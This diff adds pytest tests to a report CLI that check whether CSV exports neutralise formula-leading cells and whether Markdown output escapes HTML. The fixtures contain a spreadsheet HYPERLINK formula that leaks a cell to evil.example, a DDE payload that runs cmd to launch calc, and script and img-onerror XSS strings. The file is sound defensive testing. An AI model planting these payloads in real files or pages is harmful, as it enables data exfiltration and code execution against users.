@@ -360,3 +360,53 @@ def test_default_file_name_and_unwritable_file(site, tmp_path, monkeypatch):
     (tmp_path / "thu-muc.html").mkdir()          # a folder where the file should go: cannot be written
     run = cli("report", "--year", "2021", "--format", "html", "-o", "thu-muc.html", site=site.root)
     assert run.code == 1 and run.err.startswith("thu-muc.html: error: cannot write the report")
+
+
+# --- cells that a spreadsheet or a Markdown viewer would run (issue 19, item 5) ----------------
+
+HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Bấm vào đây")'
+HOSTILE_AUTHOR = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+@pytest.fixture
+def hostile(site):
+    from conftest import MINIMAL_SITE_YAML
+    site.write("site.yaml", MINIMAL_SITE_YAML.replace('name: "Chính sách"', 'name: "-2+3 Chính sách"'))
+    site.write("content/articles/2021/cong-thuc.md", f"""\
+        ---
+        title: '{HOSTILE_TITLE}'
+        date: 2021-03-01
+        category: chinh-sach
+        author: "{HOSTILE_AUTHOR}"
+        ---
+
+        Nội dung.
+        """)
+    site.write("content/articles/2021/the-html.md", """\
+        ---
+        title: "<img src=x onerror=alert(1)> Tin"
+        date: 2021-03-02
+        category: tin-hoat-dong
+        author: "<script>alert(1)</script> Văn phòng"
+        ---
+
+        Nội dung.
+        """)
+    return site
+
+
+def test_csv_cells_never_start_a_formula(hostile, tmp_path):
+    """OWASP (CSV injection): a cell starting with =, +, -, @, tab or CR is text, prefixed with '."""
+    rows = csv_rows(report(hostile, tmp_path, "--year", "2021", fmt="csv"))
+    formula = [(k, v) for r in rows for k, v in r.items() if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert not formula, formula
+    by_title = {r["Tiêu đề"]: r for r in rows}
+    row = by_title["'" + HOSTILE_TITLE]
+    assert row["Tác giả, đơn vị"] == "'" + HOSTILE_AUTHOR
+    assert row["Chuyên mục"] == "'-2+3 Chính sách"
+
+
+def test_markdown_report_escapes_html(hostile, tmp_path):
+    text = report(hostile, tmp_path, "--year", "2021", fmt="md")
+    assert "<img" not in text and "<script" not in text, text
+    assert "&lt;script&gt;alert(1)&lt;/script&gt; Văn phòng" in text
